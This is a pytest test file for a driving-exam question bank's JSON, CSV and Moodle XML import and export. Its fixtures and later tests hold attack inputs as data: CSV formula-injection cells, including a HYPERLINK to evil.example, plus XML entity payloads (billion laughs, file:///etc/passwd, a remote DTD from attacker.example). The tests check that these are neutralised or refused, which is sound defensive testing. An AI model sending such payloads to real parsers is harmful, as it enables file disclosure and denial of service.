"""Import and export of the question bank (question_bank.transfer): JSON, CSV and
Moodle XML round trips, hand-written Moodle files, whole-file rejection with
located problems, XML attacks, the size limit, versioning and the audit entry."""
import base64
import csv
import hashlib
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from flask_babel import force_locale
from PIL import Image
from sqlalchemy import delete, func, select, update

from core.audit import AuditEntry, verify_chain
from core.errors import ValidationError
from core.extensions import db
from helpers import question_data
from question_bank.images import STATIC_IMAGES, store_upload, upload_folder
from question_bank.models import (
    ACTIVE,
    RETIRED,
    Question,
    QuestionVersion,
    QuestionVersionClass,
)
from question_bank.services import upsert_question
from question_bank.transfer import (
    FORMATS,
    MAX_IMPORT_BYTES,
    ImportProblem,
    ImportRejected,
    ImportReport,
    export_bank,
    import_bank,
    operations,
    parse_import,
)
from question_bank.transfer.csv_format import (
    COLUMNS,
    escape_cell,
    question_row,
    unescape_cell,
)

FILES = Path(__file__).parent / "files"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SIGN = "signs/larangan-masuk.svg"
ML = '<span lang="id" class="multilang">{}</span><span lang="en" class="multilang">{}</span>'


# --------------------------------------------------------------------------- helpers


def save(data: dict, status: str = ACTIVE) -> dict:
    upsert_question(data)
    question = question_by_code(data["code"])
    question.status = status
    db.session.commit()
    return data


def question_by_code(code: str) -> Question:
    return db.session.scalar(select(Question).where(Question.code == code))


def empty_bank() -> None:
    """Delete every question (the database keeps its users and audit trail)."""
    db.session.execute(update(Question).values(current_version_id=None))
    for model in (QuestionVersionClass, QuestionVersion, Question):
        db.session.execute(delete(model))
    db.session.commit()


def bank_size() -> tuple[int, int]:
    return (db.session.scalar(select(func.count(Question.id))),
            db.session.scalar(select(func.count(QuestionVersion.id))))


def audit_entries() -> list[AuditEntry]:
    return list(db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)))


def json_file(*questions: dict) -> bytes:
    return json.dumps({"format": "sim-question-bank", "version": 1, "questions": list(questions)}).encode()


def csv_file(*rows: dict) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def csv_row(data: dict, status: str = ACTIVE, **changes: str) -> dict:
    return {**question_row({**data, "status": status}), **changes}


def rejection(fmt: str, data: bytes) -> list[tuple[str, str]]:
    with pytest.raises(ImportRejected) as caught:
        import_bank(fmt, data, None)
    return [(p.location, p.reason) for p in caught.value.problems]


def multichoice(code: str, *, text: str = ML.format("Teks?", "Text?"), extra: str = "", files: str = "",
                answers: tuple[tuple[str, str], ...] = (("100", ML.format("Ya", "Yes")), ("0", ML.format("Tidak", "No")),
                                                        ("0", ML.format("Mungkin", "Maybe")))) -> str:
    """A minimal multichoice question in Moodle XML (topic and class by tag)."""
    answer_xml = "".join(f'<answer fraction="{f}" format="html"><text><![CDATA[{t}]]></text></answer>'
                         for f, t in answers)
    return f"""<question type="multichoice">
      <name><text>{code}</text></name>
      <questiontext format="html"><text><![CDATA[{text}]]></text>{files}</questiontext>
      <generalfeedback format="html"><text><![CDATA[{ML.format("Karena.", "Because.")}]]></text></generalfeedback>
      {extra}{answer_xml}
      <tags><tag><text>topic:regulations</text></tag><tag><text>class:A</text></tag></tags>
    </question>"""


def quiz(*questions: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<quiz>' + "".join(questions) + "</quiz>").encode()


@pytest.fixture
def sample_bank(app_ctx) -> dict[str, dict]:
    """A 4-option question with a bundled image, a 3-option one, a retired one and
    one whose text is full of characters that formats like to trip over."""
    tricky = question_data(topic="signs", classes=("A", "C"), code="SGN-777")
    tricky["text"] = {"id": 'Pengemudi berkata "berhenti, lalu jalan";\nbaris kedua: café – ☕ <b>bukan tebal</b> & co',
                      "en": '=HYPERLINK("http://evil.example","click")'}
    tricky["options"][0].update({"id": "+62 812 3456", "en": "-5 km/h"})
    tricky["options"][1].update({"id": "@SUM(A1:A2)", "en": "'quoted' and ''double''"})
    tricky["options"][2].update({"id": "Kalimat, dengan, koma", "en": "Tab\tinside and  two spaces"})
    tricky["explanation"] = {"id": "Penjelasan\n\ndengan paragraf & <i>tanda</i>", "en": "'=already quoted"}
    tricky["reference"] = "UU No. 22 Tahun 2009, Pasal 106; PM 13"
    return {
        "image": save(question_data(topic="signs", classes=("A", "A_UMUM", "C"), code="SGN-701", image=SIGN,
                                    correct_index=2)),
        "three": save(question_data(topic="first_aid", classes=("C", "C1", "C2", "D"), code="AID-701",
                                    option_count=3, correct_index=1)),
        "retired": save(question_data(topic="ethics", classes=("B1",), code="ETH-701"), status=RETIRED),
        "tricky": save(tricky),
    }


# --------------------------------------------------------------------------- JSON


def test_json_export_import_export_is_identical(sample_bank):
    first = export_bank("json")
    document = json.loads(first)
    assert (document["format"], document["version"]) == ("sim-question-bank", 1)
    by_code = {q["code"]: q for q in document["questions"]}
    assert list(by_code) == sorted(by_code)
    assert by_code["ETH-701"]["status"] == RETIRED and by_code["SGN-701"]["status"] == ACTIVE
    assert by_code["SGN-701"]["image"] == SIGN and len(by_code["SGN-701"]["options"]) == 4
    assert len(by_code["AID-701"]["options"]) == 3 and by_code["AID-701"]["options"][1]["correct"] is True
    assert list(by_code["SGN-701"]) == ["code", "status", "topic", "classes", "image", "text", "options",
                                        "explanation", "reference"]

    empty_bank()
    report = import_bank("json", first, None)

    assert report == ImportReport(created=4, retired=1)
    assert export_bank("json") == first


def test_json_export_of_chosen_questions(sample_bank):
    chosen = [question_by_code("AID-701")]
    assert [q["code"] for q in json.loads(export_bank("json", chosen))["questions"]] == ["AID-701"]


def test_json_problems_are_all_collected_and_located(app_ctx):
    valid = question_data(code="REG-801")
    unknown = {**question_data(code="REG-802", classes=("A", "Z")), "status": "deleted", "colour": "red"}
    problems = rejection("json", json_file(valid, dict(valid), "not a question", unknown))

    assert ("question 2 (REG-801)", "duplicate code REG-801 (first at question 1 (REG-801))") in problems
    assert ("question 3", "not an object") in problems
    assert ("question 4 (REG-802)", "unknown fields: colour") in problems
    assert ("question 4 (REG-802)", "status must be 'active' or 'retired', not 'deleted'") in problems
    assert any(where == "question 4 (REG-802)" and reason.startswith("classes must be") for where, reason in problems)
    assert len(problems) == 5
    assert bank_size() == (0, 0)


@pytest.mark.parametrize(("data", "location"), [
    (b'{"format": "sim-question-bank",\n "version": 1,\n "questions": [}', "line 3"),
    (b'{"format": "something-else", "version": 1, "questions": []}', "file"),
    (b'{"format": "sim-question-bank", "version": 2, "questions": []}', "file"),
    (b'{"format": "sim-question-bank", "version": 1, "questions": []}', "file"),
    (b"[" * 100_000, "file"),
    ("\n\xe9t\xe9".encode("latin-1"), "line 2"),
])
def test_unreadable_json_is_rejected_with_a_location(app_ctx, data, location):
    problems = rejection("json", data)
    assert len(problems) == 1 and problems[0][0] == location


# --------------------------------------------------------------------------- CSV


def test_csv_round_trip_keeps_tricky_text(sample_bank):
    before = export_bank("json")
    exported = export_bank("csv")

    assert exported.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    tricky = dict(zip(COLUMNS, next(row for row in rows if row[0] == "SGN-777"), strict=True))
    assert tricky["text_en"] == '\'=HYPERLINK("http://evil.example","click")'
    assert tricky["option_a_en"] == "'-5 km/h" and tricky["option_b_id"] == "'@SUM(A1:A2)"
    assert tricky["explanation_en"] == "''=already quoted"
    three = dict(zip(COLUMNS, next(row for row in rows if row[0] == "AID-701"), strict=True))
    assert (three["option_d_id"], three["option_d_en"], three["correct"]) == ("", "", "B")

    empty_bank()
    assert import_bank("csv", exported, None) == ImportReport(created=4, retired=1)
    assert export_bank("json") == before


def test_csv_keeps_windows_line_breaks(app_ctx):
    data = question_data(code="REG-803")
    data["text"]["en"] = "First line\r\nsecond line"
    save(data)
    exported = export_bank("csv")
    empty_bank()
    import_bank("csv", exported, None)
    assert question_by_code("REG-803").current_version.text_en == "First line\r\nsecond line"


@pytest.mark.parametrize("value", ["=1+1", "+62", "-5", "@SUM(A1)", "\tx", "\rx", "'quoted", "''", "'=x", "'",
                                   "plain", "", "a=b", "café"])
def test_formula_guard_is_undone_exactly(value):
    escaped = escape_cell(value)
    assert not escaped.startswith(FORMULA_START)
    assert unescape_cell(escaped) == value


@pytest.mark.parametrize(("cell", "imported"), [("'hello", "'hello"), ("'=1", "=1"), ("'-5", "-5"), ("=1", "=1")])
def test_hand_written_csv_cells(cell, imported):
    assert unescape_cell(cell) == imported


def test_bad_csv_is_rejected_whole_with_located_problems(app_ctx):
    existing = save(question_data(code="REG-804"))
    edited = csv_row(existing, text_en="An edited question?")
    two_correct = csv_row(question_data(code="REG-805"), correct="A, C")
    unknown_topic = csv_row(question_data(code="REG-806"), topic="parking")
    before = bank_size()

    problems = rejection("csv", csv_file(edited, two_correct, unknown_topic))

    assert problems == [("row 3", "correct must be one letter A-D, not 'A, C'"), ("row 4", "unknown topic 'parking'")]
    assert bank_size() == before
    assert question_by_code("REG-804").current_version.text_en == existing["text"]["en"]
    assert audit_entries() == []


def test_csv_structure_problems(app_ctx):
    header_only = b"code,topic,colour\r\n"
    assert rejection("csv", header_only) == [
        ("row 1 (header)", "unknown columns: colour"),
        ("row 1 (header)", "missing columns: classes, text_id, text_en, option_a_id, option_a_en, option_b_id, "
                           + "option_b_en, option_c_id, option_c_en, correct, explanation_id, explanation_en"),
    ]
    gap = csv_row(question_data(code="REG-807"), option_c_id="", option_c_en="")
    empty_correct = csv_row(question_data(code="REG-808", option_count=3), correct="D")
    too_long = {**csv_row(question_data(code="REG-809")), "extra": "x"}
    data = csv_file(gap, empty_correct).decode() + ",".join(too_long.values()) + "\r\n\r\n,,,\r\n"
    assert rejection("csv", data.encode()) == [
        ("row 2", "options must be filled from A onwards with no gaps (filled: A, B, D)"),
        ("row 3", "the correct option D is empty"),
        ("row 4", f"has {len(COLUMNS) + 1} cells but the header has {len(COLUMNS)}"),
    ]


def test_empty_status_leaves_the_status_alone(app_ctx):
    data = save(question_data(code="REG-808"), status=RETIRED)
    assert import_bank("csv", csv_file(csv_row(data, status="")), None) == ImportReport(unchanged=1)
    assert import_bank("json", json_file(data), None) == ImportReport(unchanged=1)
    assert question_by_code("REG-808").status == RETIRED


# --------------------------------------------------------------------------- Moodle XML


def test_moodle_round_trip(sample_bank):
    before = export_bank("json")
    exported = export_bank("moodle")
    empty_bank()
    assert import_bank("moodle", exported, None) == ImportReport(created=4, retired=1)
    assert export_bank("json") == before


def test_moodle_export_follows_the_documented_format(sample_bank):
    quiz_element = ET.fromstring(export_bank("moodle"))
    assert quiz_element.tag == "quiz"
    categories = [q.findtext("category/text") for q in quiz_element.findall("question[@type='category']")]
    assert categories == ["$course$/top/SIM/signs", "$course$/top/SIM/ethics", "$course$/top/SIM/first_aid"]
    questions = {q.findtext("name/text"): q for q in quiz_element.findall("question[@type='multichoice']")}
    image = questions["SGN-701"]

    text = image.find("questiontext")
    assert text.get("format") == "html"
    assert '<img src="@@PLUGINFILE@@/larangan-masuk.svg"' in text.findtext("text")
    assert ML.format("Pertanyaan SGN-701?", "Question SGN-701?") in text.findtext("text")
    file = text.find("file")
    assert (file.get("name"), file.get("path"), file.get("encoding")) == ("larangan-masuk.svg", "/", "base64")
    assert base64.b64decode(file.text) == (STATIC_IMAGES / SIGN).read_bytes()
    assert image.find("generalfeedback").get("format") == "html"
    assert "EXPLAIN-" in image.findtext("generalfeedback/text")
    assert {tag: image.findtext(tag) for tag in ("defaultgrade", "penalty", "hidden", "idnumber", "single",
                                                 "shuffleanswers", "answernumbering")} == {
        "defaultgrade": "1", "penalty": "0", "hidden": "0", "idnumber": "SGN-701", "single": "true",
        "shuffleanswers": "true", "answernumbering": "abc"}
    answers = image.findall("answer")
    assert [a.get("fraction") for a in answers] == ["0", "0", "100", "0"]
    assert all(a.get("format") == "html" and a.find("feedback/text").text is None for a in answers)
    assert [t.text for t in image.findall("tags/tag/text")] == [
        "class:A", "class:A_UMUM", "class:C", "topic:signs", "ref:UU No. 22 Tahun 2009"]

    assert questions["ETH-701"].findtext("hidden") == "1"
    assert len(questions["AID-701"].findall("answer")) == 3
    tricky = questions["SGN-777"].findtext("questiontext/text")
    assert "&lt;b&gt;bukan tebal&lt;/b&gt; &amp; co" in tricky and "<br>" in tricky


def test_hand_written_moodle_file_imports(app_ctx, staff):
    report = import_bank("moodle", (FILES / "moodle_handwritten.xml").read_bytes(), staff.id)
    assert report == ImportReport(created=3, retired=1)

    sign = question_by_code("SGN-901")
    version = sign.current_version
    assert (sign.status, version.topic, version.class_codes, version.image, version.reference) == (
        ACTIVE, "signs", ["A", "C"], SIGN, "PM 13 Tahun 2014")
    assert (version.text_id, version.text_en) == ("Apa arti rambu ini?", "What does this sign mean?")
    assert version.options[version.correct_index] == {"id": "Dilarang masuk", "en": "No entry", "correct": True}
    assert version.correct_index == 1 and len(version.options) == 4
    assert version.explanation_en == "A red disc with a white bar means no entry & it applies to all vehicles."
    assert version.created_by_id == staff.id

    ethics = question_by_code("ETH-901")
    version = ethics.current_version
    assert (ethics.status, version.topic, version.class_codes) == (RETIRED, "ethics", ["A", "B1"])
    assert version.text_en == "The driver behind you keeps sounding the horn.\nWhat should you do?"
    assert version.explanation_id == "Tetap tenang & jangan terpancing."
    assert [o["correct"] for o in version.options] == [False, True, False]

    safe = question_by_code("SAF-901").current_version
    assert (safe.topic, safe.class_codes, safe.image) == ("safe_driving", ["C"], "scenes/zona-sekolah.svg")
    assert safe.text_en == "You approach a “school zone” at 07:00. What do you do?"


def test_moodle_file_without_translations_is_rejected(app_ctx):
    problems = rejection("moodle", (FILES / "moodle_plain.xml").read_bytes())
    lacking = "missing English text in: question text, general feedback (explanation), answer 1, answer 2, answer 3"
    assert problems == [("<question> #2 (REG-901)", lacking), ("<question> #3 (REG-902)", lacking)]
    assert bank_size() == (0, 0)


def test_moodle_problems_are_located(app_ctx):
    not_bundled = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'/>").decode()
    data = quiz(
        '<question type="category"><category><text>$course$/top/SIM/regulations</text></category></question>',
        '<question type="essay"><name><text>Essay</text></name></question>',
        multichoice("REG-810", answers=(("50", ML.format("Ya", "Yes")), ("50", ML.format("Juga", "Also")),
                                        ("0", ML.format("Tidak", "No")))),
        multichoice("REG-811", extra="<single>false</single>"),
        multichoice("REG-812", text='<img src="@@PLUGINFILE@@/new.svg">' + ML.format("Teks?", "Text?"),
                    files=f'<file name="new.svg" path="/" encoding="base64">{not_bundled}</file>'),
        multichoice("REG-813", text='<img src="https://example.com/x.png">' + ML.format("Teks?", "Text?")),
        multichoice("REG-814", text=ML.format("Teks?", "")),
        multichoice("REG-810"),
    )
    assert rejection("moodle", data) == [
        ("<question> #2", "question type 'essay' is not supported (only multichoice)"),
        ("<question> #3 (REG-810)", "answer 1 has fraction '50'; only 100 (correct) and 0 are supported"),
        ("<question> #3 (REG-810)", "answer 2 has fraction '50'; only 100 (correct) and 0 are supported"),
        ("<question> #3 (REG-810)", "needs exactly one correct option"),
        ("<question> #4 (REG-811)", "allows several answers (<single>false</single>); "
                                    + "only single-answer questions are supported"),
        ("<question> #5 (REG-812)", "image new.svg is neither a bundled image (static/img) nor an image already "
                                    + "uploaded here; new images cannot be added through Moodle XML"),
        ("<question> #6 (REG-813)", "image 'https://example.com/x.png' is not a file embedded in the question "
                                    + "(@@PLUGINFILE@@)"),
        ("<question> #7 (REG-814)", "missing English text in: question text"),
        ("<question> #8 (REG-810)", "duplicate code REG-810 (first at <question> #3 (REG-810))"),
    ]


def png(colour: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), colour).save(out, format="PNG")
    return out.getvalue()


def test_uploaded_image_round_trips_through_moodle_but_new_ones_are_refused(app_ctx):
    image = store_upload(png("red"))
    save(question_data(code="REG-815", image=image))
    before, exported = export_bank("json"), export_bank("moodle")
    empty_bank()
    assert import_bank("moodle", exported, None) == ImportReport(created=1)
    assert export_bank("json") == before

    uploads = sorted(upload_folder().iterdir())
    stored = (upload_folder() / image.split("/", 1)[1]).read_bytes()
    new_content = base64.b64encode(png("blue")).decode()
    problems = rejection("moodle", exported.replace(base64.b64encode(stored), new_content.encode()))
    assert [where for where, _reason in problems] == ["<question> #2 (REG-815)"]
    assert sorted(upload_folder().iterdir()) == uploads


def test_image_references_without_a_file_are_matched_by_name(app_ctx):
    upload = store_upload(png("green"))
    text = ML.format("Teks?", "Text?")
    named = [multichoice("REG-822", text=f'<img src="@@PLUGINFILE@@/{upload.split("/")[1]}">' + text),
             multichoice("REG-823", text='<p><img src="@@PLUGINFILE@@/larangan-masuk.svg" alt=""></p>' + text)]
    assert [q["image"] for q in parse_import("moodle", quiz(*named))] == [upload, SIGN]

    missing = multichoice("REG-824", text='<img src="@@PLUGINFILE@@/hilang.png">' + text)
    assert rejection("moodle", quiz(*named, missing)) == [(
        "<question> #3 (REG-824)", "image hilang.png is neither a bundled image (static/img) nor an image already "
                                   + "uploaded here; new images cannot be added through Moodle XML")]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<quiz><question type="multichoice"><name><text>&lol3;</text></name></question></quiz>"""
EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="multichoice"><name><text>&secret;</text></name></question></quiz>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!doctype quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><quiz/>"""


@pytest.mark.parametrize(("payload", "line"), [
    (BILLION_LAUGHS.encode(), "line 2"),
    (EXTERNAL_ENTITY.encode(), "line 2"),
    (PARAMETER_ENTITY.encode(), "line 2"),
    (b"\xef\xbb\xbf" + EXTERNAL_ENTITY.encode(), "line 2"),
    (b'<quiz><!ENTITY x "y"></quiz>', "line 1"),
])
def test_xml_declarations_are_refused(app_ctx, payload, line):
    assert rejection("moodle", payload) == [(line, "DOCTYPE and ENTITY declarations are not allowed")]
    assert bank_size() == (0, 0)


def test_xml_in_another_encoding_is_refused(app_ctx):
    payload = EXTERNAL_ENTITY.replace("UTF-8", "UTF-16").encode("utf-16")
    assert rejection("moodle", payload) == [("line 1", "The file is not UTF-8 text.")]


def test_malformed_xml_is_located(app_ctx):
    assert rejection("moodle", b"<quiz>\n<question>\n</quiz>") == [("line 3", "not well-formed XML (column 3)")]
    assert rejection("moodle", b"<questions/>") == [("file", "the root element must be <quiz>, not <questions>")]


# --------------------------------------------------------------------------- every format


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_oversize_file_is_refused(app_ctx, fmt):
    problems = rejection(fmt, b" " * (MAX_IMPORT_BYTES + 1))
    assert problems == [("file", "The file is larger than the limit of 10 MB.")]


def test_unknown_format_is_a_value_error(app_ctx):
    with pytest.raises(ValueError, match="xlsx"):
        export_bank("xlsx")
    with pytest.raises(ValueError, match="xlsx"):
        parse_import("xlsx", b"")


def test_rejection_is_a_validation_error_that_counts_its_problems(app_ctx):
    rejected = ImportRejected([ImportProblem("row 2", "a"), ImportProblem("row 3", "b")])
    assert isinstance(rejected, ValidationError) and rejected.status == 422
    assert "2" in rejected.message  # in the app's default language, Indonesian
    with force_locale("en"):
        assert ImportRejected(rejected.problems[:1]).message == "The import file has 1 problem; nothing was imported."
        assert ImportRejected(rejected.problems).message == "The import file has 2 problems; nothing was imported."
    assert str(rejected.problems[0]) == "row 2: a"


def test_parse_import_returns_question_dicts_and_writes_nothing(app_ctx):
    data = question_data(code="REG-816", option_count=3)
    questions = parse_import("csv", csv_file(csv_row(data, status="")))
    assert questions == [{**data, "status": None}]
    assert bank_size() == (0, 0)


def test_import_that_edits_a_question_adds_a_version(app_ctx, staff):
    original = save(question_data(code="REG-817"))
    document = json.loads(export_bank("json"))
    document["questions"][0]["text"]["en"] = "What does the law require now?"
    document["questions"][0]["status"] = RETIRED
    edited = json.dumps(document).encode()

    assert import_bank("json", edited, staff.id) == ImportReport(updated=1, retired=1)

    question = question_by_code("REG-817")
    first, second = question.versions
    assert (first.number, first.text_en, first.created_by_id) == (1, original["text"]["en"], None)
    assert (second.number, second.text_en, second.created_by_id) == (2, "What does the law require now?", staff.id)
    assert second.text_id == first.text_id and second.options == first.options
    assert question.current_version_id == second.id and question.status == RETIRED

    assert import_bank("json", edited, staff.id) == ImportReport(unchanged=1)
    document["questions"][0]["status"] = ACTIVE
    assert import_bank("json", json.dumps(document).encode(), staff.id) == ImportReport(unchanged=1, restored=1)
    assert len(question_by_code("REG-817").versions) == 2


def test_import_writes_one_audit_entry(app_ctx, staff):
    save(question_data(code="REG-818"))
    data = json_file(question_data(code="REG-818"), question_data(code="REG-819"))

    report = import_bank("json", data, staff.id)

    entries = audit_entries()
    assert len(entries) == 1
    entry = entries[0]
    assert (entry.action, entry.actor_id, entry.target_type) == ("question_bank.import", staff.id, "question_bank")
    assert entry.details == {"format": "json", "counts": report.as_dict(), "questions": 2,
                             "sha256": hashlib.sha256(data).hexdigest()}
    assert report == ImportReport(created=1, updated=1)
    assert verify_chain().intact


def test_a_failure_while_saving_rolls_the_whole_import_back(app_ctx, monkeypatch):
    save(question_data(code="REG-820"))
    before = bank_size()
    calls = []

    def failing_upsert(data, by_user_id=None):
        calls.append(data["code"])
        if len(calls) == 2:
            raise RuntimeError("database went away")
        return upsert_question(data, by_user_id)

    monkeypatch.setattr(operations, "upsert_question", failing_upsert)
    with pytest.raises(RuntimeError):
        import_bank("json", json_file(question_data(code="REG-821"), question_data(code="REG-820")), None)

    assert calls == ["REG-821", "REG-820"]
    assert bank_size() == before and question_by_code("REG-821") is None
    assert audit_entries() == []
